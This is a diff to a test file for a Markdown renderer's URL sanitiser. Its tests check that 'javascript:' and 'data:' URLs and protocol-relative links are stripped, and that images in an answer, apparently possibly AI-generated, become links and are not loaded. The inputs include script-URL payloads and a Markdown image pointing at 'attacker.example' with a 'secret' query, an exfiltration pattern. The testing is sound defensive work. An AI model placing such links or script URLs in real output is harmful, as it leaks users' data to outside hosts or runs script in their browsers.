@@ -27,11 +27,18 @@ describe('Markdown', () => {
     expect(screen.getByText('bad')).toBeInTheDocument();
   });
 
-  it('keeps only safe URL schemes', () => {
+  it('keeps only absolute http(s) and mailto URLs', () => {
     expect(safeUrl('javascript:alert(1)')).toBe('');
     expect(safeUrl('data:text/html,x')).toBe('');
     expect(safeUrl('//evil.example')).toBe('');
-    expect(safeUrl('#section')).toBe('#section');
+    expect(safeUrl('/settings')).toBe('');
     expect(safeUrl('mailto:a@b.c')).toBe('mailto:a@b.c');
+    expect(safeUrl('https://example.com/a')).toBe('https://example.com/a');
+  });
+
+  it('never loads images from an answer; it offers a link instead', () => {
+    const { container } = render(<Markdown text={'![chart](https://attacker.example/p.png?d=secret)'} />);
+    expect(container.querySelector('img')).toBeNull();
+    expect(screen.getByRole('link', { name: '[Image: chart]' })).toHaveAttribute('href', 'https://attacker.example/p.png?d=secret');
   });
 });
